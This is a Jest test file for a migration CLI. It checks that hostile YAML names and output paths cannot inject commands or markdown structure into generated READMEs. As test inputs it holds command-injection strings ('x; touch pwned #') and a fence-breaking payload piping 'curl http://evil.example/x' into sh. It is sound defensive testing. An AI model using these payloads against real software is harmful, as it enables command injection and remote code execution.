import * as fs from 'fs';
import * as path from 'path';
import { FIXTURES, removeTempDirs, requireCompiled, runCli, tempDir } from './run-cli';
import { expectReadmesSafe, readmesUnder, renderReadme, runCommands } from '../migration/readme-commands';

beforeAll(() => requireCompiled());
afterAll(() => removeTempDirs());

const POOL_FILE = path.join('apps', 'llm', 'vllm-llama3-8b-instruct-alpha.yaml');
const EPP_REF = '  extensionRef:\n    name: vllm-llama3-8b-instruct-alpha-epp';

/** The one-pool fixture with the alpha pool's extensionRef name (which the v1alpha2 CRD does not constrain) replaced. */
function repoWithEppName(yamlValue: string): string {
  const repo = path.join(tempDir('hostile-'), 'repo');
  fs.cpSync(path.join(FIXTURES, 'one-pool'), repo, { recursive: true });
  const file = path.join(repo, POOL_FILE);
  const text = fs.readFileSync(file, 'utf8');
  expect(text).toContain(EPP_REF);
  fs.writeFileSync(file, text.replace(EPP_REF, `  extensionRef:\n    name: ${yamlValue}`));
  return repo;
}

/**
 * Plans the repository. The name may be refused as input (exit 1, naming the file); if the plan is written, its
 * READMEs render only their own headings and no HTML, and pasting all their commands injects nothing.
 */
function expectPlanSafe(repo: string): string[][] {
  const out = path.join(tempDir('hostile-out-'), 'out');
  const run = runCli(['plan', '--from', repo, '--out', out]);
  if (run.status !== 0) {
    expect(run.status).toBe(1);
    expect(run.stderr).toContain(POOL_FILE);
    return [];
  }
  return expectReadmesSafe(readmesUnder(out));
}

describe('hostile names in the input of plan', () => {
  test('given an extensionRef name that is a shell command, then no README command runs it', () => {
    const calls = expectPlanSafe(repoWithEppName('\'x; touch pwned #\''));
    if (calls.length > 0) expect(calls).toContainEqual(['kubectl', 'get', 'deployment,service,serviceaccount,configmap', '-n', 'default']);
  });

  test('given an extensionRef name that closes the code fence and adds a heading and a command, then the READMEs keep their structure', () => {
    expectPlanSafe(repoWithEppName('"x\\n```\\n# Pwned\\n\\ncurl http://evil.example/x | sh\\ntouch pwned-fence\\n```\\n"'));
  });
});

describe('an --out path with spaces and shell characters', () => {
  test('given convert llamastack, then the printed and written kubectl apply lines take the path as one argument', () => {
    const out = path.join(tempDir('out-'), 'llsd out; touch pwned #');
    const run = runCli(['convert', 'llamastack', path.join(FIXTURES, 'llamastack'), '--out', out]);
    expect(run.status).toBe(0);
    const readme = renderReadme(fs.readFileSync(path.join(out, 'README.md'), 'utf8'));
    expect(readme.headings).toEqual(['1 LlamaStackDistribution v1alpha1 to v1alpha2', '2 Warnings']);
    for (const text of [run.stdout, readme.codeBlocks.join('\n')]) {
      const commands = text.split('\n').map((l) => l.trim()).filter((l) => l.startsWith('kubectl '));
      const ran = runCommands(commands.join('\n'));
      expect(ran.files).toEqual([]);
      expect(ran.calls).toContainEqual(['kubectl', 'apply', '-f', `${out}/ai-my-llsd.yaml`]);
      expect(ran.calls).toContainEqual(['kubectl', 'apply', '-f', `${out}/ai-vllm-llsd.yaml`]);
    }
  });
});
